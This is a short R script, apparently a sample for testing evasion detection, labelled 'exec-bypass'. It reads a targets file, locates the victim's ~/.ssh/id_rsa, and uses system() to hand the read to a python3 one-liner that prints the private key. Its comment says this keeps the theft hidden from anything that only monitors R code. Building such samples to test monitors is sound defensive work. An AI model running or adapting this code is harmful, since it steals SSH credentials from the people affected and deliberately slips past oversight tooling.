# exec-bypass: R hands the work to another interpreter through system():
# a python3 one-liner reads the victim's SSH key, out of sight of anything
# that only watches R code.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
key <- file.path(T[["T_HOME"]], ".ssh", "id_rsa")
system(paste("python3 -c 'import sys; print(open(sys.argv[1]).read())'", shQuote(key)))
